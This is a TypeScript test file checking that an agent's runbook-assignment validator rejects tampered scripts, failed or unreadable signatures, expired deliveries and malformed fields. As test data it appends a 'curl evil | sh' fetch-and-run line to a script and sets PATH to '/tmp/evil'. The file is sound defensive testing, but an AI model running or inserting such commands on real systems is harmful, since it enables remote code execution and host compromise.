import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { ActionAssignment } from '../api/agent-protocol';
import { prepareAssignment } from './assignment';

const script = '#!/bin/sh\nsystemctl restart nginx\n';
const uuid = '6f1c2a7e-8d2b-4c1e-9f3a-2b8c1d0e4f5a';
const now = new Date('2026-12-01T10:00:00Z');
const message = (
  change: Partial<ActionAssignment> = {},
  runbook: Partial<ActionAssignment['runbook']> = {},
): ActionAssignment => ({
  actionId: 'act-1',
  runbook: {
    runbookId: uuid,
    version: 4,
    name: 'restart-nginx',
    script,
    scriptSha256: createHash('sha256').update(script).digest('hex'),
    signature: 'aGVhZA.cGF5bG9hZA.c2ln',
    ...runbook,
  },
  env: { NP_TRIGGER_HOST: 'web-1' },
  timeoutSeconds: 120,
  killGraceSeconds: 10,
  runAs: null,
  outputCapBytes: 64 * 1024 * 1024,
  notAfter: '2026-12-01T10:05:00Z',
  actionToken: 'npa_x',
  ...change,
});
const trusted = async () => true;

describe('prepareAssignment', () => {
  it('turns a valid, signed, current assignment into what the runner executes (cap within the host limit)', async () => {
    expect(
      await prepareAssignment(message(), {
        verifySignature: trusted,
        now,
        maxOutputCapBytes: 16 * 1024 * 1024,
      }),
    ).toEqual({
      ok: true,
      assignment: {
        actionId: 'act-1',
        script,
        env: { NP_TRIGGER_HOST: 'web-1' },
        timeoutMs: 120_000,
        killGraceMs: 10_000,
        outputCapBytes: 16 * 1024 * 1024,
        runAs: null,
        runbook: { id: uuid, version: 4, name: 'restart-nginx' },
      },
    });
  });

  it('refuses an altered script, an untrusted or failing signature check, and a stale delivery', async () => {
    const altered = message({}, { script: `${script}curl evil | sh\n` });
    expect(await prepareAssignment(altered, { verifySignature: trusted, now })).toMatchObject({
      ok: false,
      rejectReason: 'signature_rejected',
      message: 'the script does not match its signed SHA-256',
    });
    expect(await prepareAssignment(message(), { verifySignature: async () => false, now })).toMatchObject({
      rejectReason: 'signature_rejected',
    });
    expect(
      await prepareAssignment(message(), {
        verifySignature: async () => {
          throw new Error('trust file unreadable');
        },
        now,
      }),
    ).toMatchObject({ rejectReason: 'signature_rejected' });
    expect(
      await prepareAssignment(message(), { verifySignature: trusted, now: new Date('2026-12-01T10:05:00Z') }),
    ).toMatchObject({
      rejectReason: 'expired',
    });
  });

  it('refuses what does not match the contract, naming the field', async () => {
    const result = await prepareAssignment(
      { ...message(), env: { PATH: '/tmp/evil' } },
      { verifySignature: trusted, now },
    );
    expect(result).toMatchObject({ ok: false, rejectReason: 'bad_parameters' });
    expect(result.ok === false && result.message).toContain('does not match the protocol');
    expect(await prepareAssignment('nonsense', { verifySignature: trusted, now })).toMatchObject({
      ok: false,
    });
  });
});
